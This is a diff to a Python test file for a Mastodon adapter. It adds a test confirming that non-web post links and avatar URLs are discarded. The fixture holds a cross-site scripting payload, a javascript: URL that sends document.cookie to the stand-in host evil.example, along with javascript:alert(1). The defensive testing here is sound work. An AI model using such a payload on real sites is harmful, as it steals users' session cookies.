@@ -15,6 +15,7 @@ from authlib.integrations.httpx_client import OAuth2Client
 from postforge.models.social import Platform
 from postforge.platforms.base import (
     AccountCredentials,
+    AccountProfile,
     AuthExpired,
     ConnectFailed,
     Published,
@@ -500,3 +501,16 @@ def test_an_address_without_a_scheme_that_answers_nothing_is_not_a_mastodon_serv
         adapter.register_app("mastodon.example.invalid", REDIRECT_URI)
     assert refused.value.message.startswith("mastodon.example.invalid does not answer as a Mastodon server")
     assert "try again" not in refused.value.message.lower()
+
+
+def test_a_post_link_or_avatar_that_is_not_a_web_address_is_dropped(mastodon, adapter) -> None:
+    fake, base_url = mastodon
+    hostile = {"id": "110", "url": "javascript:fetch('//evil.example/'+document.cookie)", "uri": "data:x"}
+    fake.faults.fail_next("statuses", status=200, body=hostile)
+    assert adapter.publish(request_for(account_for(fake, base_url))) == Published("110", url="")
+
+    profile = AccountProfile("1", "@alice@mastodon.test", avatar_url="javascript:alert(1)")
+    assert profile.avatar_url == ""
+    assert AccountProfile("1", "@a", avatar_url="https://cdn.example/a.png").avatar_url == (
+        "https://cdn.example/a.png"
+    )
